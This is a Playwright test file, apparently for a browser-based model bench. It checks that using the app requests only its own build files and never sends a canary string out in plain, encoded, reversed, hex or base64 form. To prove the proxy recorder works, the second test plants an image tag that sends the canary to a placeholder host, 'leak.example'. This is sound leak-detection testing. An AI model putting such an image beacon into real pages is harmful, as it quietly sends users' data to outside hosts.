/** What leaves the page while somebody uses all of it. */
import { expect, test } from '@playwright/test';
import { startServer } from '../../scripts/serve.mjs';
import { filesOf, installOwn } from '../models-view/stage';
import { DIST, files } from '../support/build';
import { fullJourney, triageJourney } from '../support/journey';
import { launchThrough, startProxy } from '../support/proxy';

const CANARY = 'marzipan-lighthouse-7f3a91c2';

/** How a name could travel: as it is, encoded for an address, as base64 at any of its three offsets. */
function spellings(text: string): string[] {
  const base64 = [0, 1, 2].map((shift) =>
    Buffer.from(`${' '.repeat(shift)}${text}`)
      .toString('base64')
      .slice(shift ? 4 : 0, -4),
  );
  return [
    text,
    encodeURIComponent(text),
    [...text].reverse().join(''),
    Buffer.from(text).toString('hex'),
    ...base64,
  ];
}

test('X01 X09 using the bench, triage and models asks for files of the build, and for nothing else', async () => {
  test.setTimeout(180_000);
  const [server, proxy] = await Promise.all([startServer({ dir: DIST }), startProxy()]);
  const browser = await launchThrough(proxy);
  const page = await browser.newPage({ viewport: { width: 1440, height: 900 } });
  // The browser's own errands, if any, happen without us too.
  await page.goto('about:blank');
  await page.waitForTimeout(3000);
  const errands = new Set(proxy.seen.map(({ url }) => hostOf(url)));
  proxy.seen.length = 0;

  await fullJourney(page, CANARY, server.url);
  const exports = await triageJourney(page, CANARY);
  for (const spelling of spellings(CANARY)) expect(exports).not.toContain(spelling);
  await page.getByRole('link', { name: 'Models', exact: true }).click();
  await installOwn(page, 'Mine', filesOf('timm-vit'));

  const ours = proxy.seen.filter(({ url }) => !errands.has(hostOf(url)));
  const known = new Set(['', ...files()].map((file) => server.url + file));
  expect(ours.filter(({ url }) => !known.has(url)).map(({ method, url }) => `${method} ${url}`)).toEqual([]);
  expect(ours.filter(({ method, body }) => method !== 'GET' || body !== '')).toEqual([]);
  // It was really used: the runtime and a model were asked for, through this proxy.
  expect(ours.map(({ url }) => url).join(' ')).toMatch(/\.wasm .*\.onnx|\.onnx .*\.wasm/);
  for (const { url, headers, body } of proxy.seen)
    for (const spelling of spellings(CANARY)) expect(`${url} ${headers} ${body}`).not.toContain(spelling);
  await browser.close();
  await Promise.all([server.close(), proxy.close()]);
});

test('X01 the recorder would have noticed', async () => {
  const [server, proxy] = await Promise.all([startServer({ dir: DIST, headers: false }), startProxy()]);
  const browser = await launchThrough(proxy);
  const page = await browser.newPage();
  await page.goto('about:blank');
  await page.setContent(`<img src="http://leak.example/${CANARY}">`);
  await expect.poll(() => proxy.seen.some(({ url }) => url.includes(CANARY))).toBe(true);
  for (const spelling of spellings(CANARY)) {
    const carried = [
      Buffer.from(`a${CANARY}b`).toString('base64'),
      Buffer.from(`ab${CANARY}`).toString('base64'),
    ];
    const forms = [CANARY, encodeURIComponent(CANARY), Buffer.from(CANARY).toString('hex'), ...carried];
    const reversed = [...CANARY].reverse().join('');
    const plain = Buffer.from(CANARY).toString('base64');
    expect(
      [...forms, reversed, plain].some((form) => form.includes(spelling)),
      spelling,
    ).toBe(true);
  }
  await browser.close();
  await Promise.all([server.close(), proxy.close()]);
});

function hostOf(url: string): string {
  return url.includes('://') ? new URL(url).host : url;
}
